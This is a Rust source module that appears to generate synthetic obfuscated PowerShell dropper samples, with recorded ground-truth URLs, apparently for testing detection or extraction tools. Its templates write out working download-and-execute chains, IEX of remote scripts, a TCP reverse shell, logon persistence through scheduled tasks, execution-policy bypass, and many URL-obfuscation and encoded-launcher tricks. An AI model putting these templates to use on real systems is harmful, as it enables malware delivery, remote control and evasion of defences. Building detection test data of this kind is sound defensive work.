//! Droppers in PowerShell.

use super::{Dice, Truth, base64, codes, deflate, gzip, hex, reversed, wide, xored};
use std::fmt::Write;

const FILES: &[&str] = &[".exe", ".dll", ".ps1", ".bin", ".dat", ""];

/// An expression of which `text` is the value; `before` gets what must stand in front of it.
fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = dice.name();
    let quoted = |pieces: &[String]| -> Vec<String> {
        pieces.iter().map(|piece| format!("'{piece}'")).collect()
    };
    match dice.below(18) {
        0 => format!("'{text}'"),
        1 => format!("({})", quoted(&dice.pieces(text)).join("+")),
        2 => {
            let pieces = dice.pieces(text);
            let order = dice.order(pieces.len());
            let holes: String = (0..pieces.len())
                .map(|at| format!("{{{}}}", order.iter().position(|o| *o == at).unwrap_or(0)))
                .collect();
            let words: Vec<String> = order.iter().map(|at| format!("'{}'", pieces[*at])).collect();
            format!("(\"{holes}\" -f {})", words.join(","))
        }
        3 => format!("(-join ({}))", quoted(&dice.pieces(text)).join(",")),
        4 => {
            let last = text.len();
            format!("(-join ('{}'[-1..-{last}]))", reversed(text))
        }
        5 => {
            let _ = writeln!(
                before,
                "${name} = '{}'.ToCharArray()\n[array]::Reverse(${name})",
                reversed(text)
            );
            format!("(-join ${name})")
        }
        6 => format!(
            "([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('{}')))",
            base64(text.as_bytes())
        ),
        7 => format!(
            "([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String(\"{}\")))",
            base64(&wide(text))
        ),
        8 => {
            let mark = dice.mark(text);
            format!("('{}'.Replace('{mark}',''))", dice.littered(text, &mark))
        }
        9 => {
            let mark = dice.name();
            format!("('{}' -replace '{mark}','')", dice.littered(text, &mark))
        }
        10 => format!("(-join [char[]]({}))", codes(text.bytes(), ",")),
        11 => {
            let words: Vec<String> = text.bytes().map(|byte| format!("[char]{byte}")).collect();
            format!("({})", words.join("+"))
        }
        12 => {
            let key = dice.key();
            format!(
                "(-join (@({}) | ForEach-Object {{ [char]($_ -bxor {key}) }}))",
                codes(xored(text, key), ",")
            )
        }
        13 => format!(
            "(-join ('{}' -split '(..)' | ? {{ $_ }} | % {{ [char][convert]::ToInt32($_,16) }}))",
            hex(text.as_bytes())
        ),
        14 => {
            let key = dice.key();
            let _ = writeln!(
                before,
                "function {name}($a, $k) {{\n  $r = ''\n  for ($i = 0; $i -lt $a.Length; $i++) {{ $r += [char]($a[$i] -bxor $k) }}\n  return $r\n}}"
            );
            format!("({name} ([byte[]]({})) {key})", codes(xored(text, key), ","))
        }
        15 => {
            let mut word = String::new();
            for piece in dice.pieces(text) {
                let name = dice.name();
                let _ = writeln!(before, "${name} = \"{piece}\"");
                let _ = write!(word, "$({}{name})", '$');
            }
            format!("\"{word}\"")
        }
        16 => {
            let packed = base64(&deflate(text.as_bytes()));
            format!(
                "((New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{packed}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd())"
            )
        }
        _ => {
            let mark = dice.pick(&["#", "~", "@", "!"]);
            let letters: Vec<String> = text.chars().map(String::from).collect();
            format!("('{}'.Split('{mark}') -join '')", letters.join(mark))
        }
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut text = dice
        .pick(&[
            "$ErrorActionPreference = 'SilentlyContinue'\n",
            "[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12\n",
            "Set-StrictMode -Off\nSet-ExecutionPolicy Bypass -Scope Process -Force\n",
        ])
        .to_owned();
    for _ in 0..1 + dice.below(2) {
        let mut before = String::new();
        let line = delivery(dice, truth, &mut before);
        text.push_str(&before);
        text.push_str(&line);
        if super::ends(&line) {
            break;
        }
    }
    match dice.below(8) {
        0 => format!(
            "$d = [System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('{}'))\nInvoke-Expression $d\n",
            base64(&wide(&text))
        ),
        1 => format!(
            "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc {}\n",
            base64(&wide(&text))
        ),
        2 => format!(
            "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(\"{}\"));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();\n",
            base64(&gzip(text.as_bytes()))
        ),
        3 => format!(
            "& ([scriptblock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{}'))))\n# Invoke-Expression New-Object\n",
            base64(text.as_bytes())
        ),
        _ => text,
    }
}

fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
    let file = dice.name();
    let var = dice.name();
    match dice.below(16) {
        0 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "(New-Object System.Net.WebClient).DownloadFile({url}, \"$env:TEMP\\{file}.exe\")\nStart-Process \"$env:TEMP\\{file}.exe\"\n"
            )
        }
        1 => {
            let url = truth.url(dice, &[".ps1", ".txt", ""]);
            let url = hide(dice, &url, before);
            format!("IEX (New-Object Net.WebClient).DownloadString({url})\n")
        }
        2 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "Invoke-WebRequest -Uri {url} -OutFile \"$env:APPDATA\\{file}.exe\" -UseBasicParsing\nStart-Process -FilePath \"$env:APPDATA\\{file}.exe\" -WindowStyle Hidden\n"
            )
        }
        3 => {
            let url = truth.url(dice, &[".ps1", ".txt"]);
            let url = hide(dice, &url, before);
            format!("iex (iwr {url} -UseBasicParsing).Content\n")
        }
        4 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "${var} = New-Object Net.WebClient\n${var}.Headers.Add('User-Agent', 'Mozilla/5.0')\n$b = ${var}.DownloadData({url})\n[IO.File]::WriteAllBytes(\"$env:PUBLIC\\{file}.exe\", $b)\n& \"$env:PUBLIC\\{file}.exe\"\n"
            )
        }
        5 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "Import-Module BitsTransfer\nStart-BitsTransfer -Source {url} -Destination \"C:\\Users\\Public\\{file}.exe\"\nInvoke-Item \"C:\\Users\\Public\\{file}.exe\"\n"
            )
        }
        6 => {
            let (host, port) = truth.endpoint(dice);
            let host = hide(dice, &host, before);
            format!(
                "$client = New-Object System.Net.Sockets.TCPClient({host},{port})\n$stream = $client.GetStream()\n[byte[]]$bytes = 0..65535|%{{0}}\nwhile(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){{\n  $data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0,$i)\n  $sendback = (iex $data 2>&1 | Out-String)\n  $sendbyte = ([text.encoding]::ASCII).GetBytes($sendback + 'PS ' + (pwd).Path + '> ')\n  $stream.Write($sendbyte,0,$sendbyte.Length)\n  $stream.Flush()\n}}\n$client.Close()\n"
            )
        }
        7 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "${var} = {url}\n$dst = Join-Path $env:TEMP '{file}.exe'\ntry {{\n  Invoke-RestMethod -Uri ${var} -OutFile $dst\n}} catch {{\n  (New-Object Net.WebClient).DownloadFile(${var}, $dst)\n}}\nif (Test-Path $dst) {{ Start-Process $dst }}\n"
            )
        }
        8 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "${var} = {url}\ncmd /c \"certutil -urlcache -split -f ${var} C:\\ProgramData\\{file}.exe & C:\\ProgramData\\{file}.exe\"\n"
            )
        }
        9 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "$h = New-Object -ComObject MSXML2.XMLHTTP\n$h.open('GET', {url}, $false)\n$h.send()\niex $h.responseText\n"
            )
        }
        10 => {
            let urls: Vec<String> =
                (0..2 + dice.below(3)).map(|_| truth.url(dice, FILES)).collect();
            let words: Vec<String> = urls.iter().map(|url| hide(dice, url, before)).collect();
            format!(
                "${var} = @({})\nforeach ($u in ${var}) {{\n  try {{\n    (New-Object Net.WebClient).DownloadFile($u, \"$env:TEMP\\{file}.exe\")\n    Start-Process \"$env:TEMP\\{file}.exe\"\n  }} catch {{ }}\n}}\n",
                words.join(", ")
            )
        }
        11 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "function Get-{var} {{\n  param([string]$Url, [string]$Path)\n  $wc = New-Object System.Net.WebClient\n  $wc.DownloadFile($Url, $Path)\n}}\nGet-{var} -Url {url} -Path \"$env:LOCALAPPDATA\\{file}.exe\"\nStart-Process \"$env:LOCALAPPDATA\\{file}.exe\"\n"
            )
        }
        12 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "$r = [System.Net.WebRequest]::Create({url})\n$resp = $r.GetResponse()\n$sr = New-Object IO.StreamReader($resp.GetResponseStream())\n&('i'+'ex') $sr.ReadToEnd()\n"
            )
        }
        13 => {
            let url = truth.url(dice, &[".hta", ".html"]);
            let url = hide(dice, &url, before);
            format!("${var} = {url}\nStart-Process mshta.exe -ArgumentList ${var}\n")
        }
        14 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "$wc = New-Object (\"{{1}}{{0}}\" -f 't.WebClient','Ne')\n$wc.\"Down`loadFi`le\"({url}, \"$($env:TEMP)\\{file}.exe\")\n.(gcm st*rt-proc*s) \"$($env:TEMP)\\{file}.exe\"\n"
            )
        }
        _ => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "${var} = {url}\n$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument \"-w hidden -c IEX (New-Object Net.WebClient).DownloadString('${var}')\"\n$t = New-ScheduledTaskTrigger -AtLogOn\nRegister-ScheduledTask -TaskName '{file}' -Action $a -Trigger $t\n"
            )
        }
    }
}
